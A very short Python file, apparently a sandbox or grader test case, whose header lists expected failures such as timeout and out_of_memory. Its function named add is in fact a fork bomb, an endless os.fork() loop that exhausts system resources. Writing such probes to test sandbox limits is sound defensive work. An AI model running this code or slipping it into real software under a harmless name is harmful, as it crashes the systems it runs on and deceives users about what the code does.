# suite: plain; functional: error timeout failed out_of_memory
import os
def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
